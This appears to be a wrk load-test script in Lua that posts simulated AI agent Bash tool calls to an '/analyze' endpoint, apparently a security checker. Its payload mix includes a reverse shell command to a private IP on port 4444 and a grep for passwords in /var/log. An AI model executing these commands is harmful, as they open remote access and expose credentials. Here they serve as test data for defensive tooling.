-- wrk script: the stress scenario's payload mix (60% ls -la, 25% grep,
-- 15% reverse shell), each connection with its own session id.
local bodies = {}
local mix = {
  {60, "ls -la"},
  {25, "grep -r \\\"password\\\" /var/log/"},
  {15, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
}
local counter = 0

function setup(thread)
  counter = counter + 1
  thread:set("tid", counter)
end

function init(args)
  local sid = "bench-" .. tostring(tid or 0) .. "-" .. tostring(math.random(1, 1e9))
  for _, m in ipairs(mix) do
    local b = '{"tool_call":{"Bash":{"command":"' .. m[2] .. '","args":[],"env":{}}},' ..
              '"user_id":"bench@example.com","session_id":"' .. sid .. '"}'
    for i = 1, m[1] do bodies[#bodies + 1] = b end
  end
  wrk.method = "POST"
  wrk.headers["Content-Type"] = "application/json"
end

local i = 0
function request()
  i = i + 1
  return wrk.format(nil, "/analyze", nil, bodies[(i % #bodies) + 1])
end
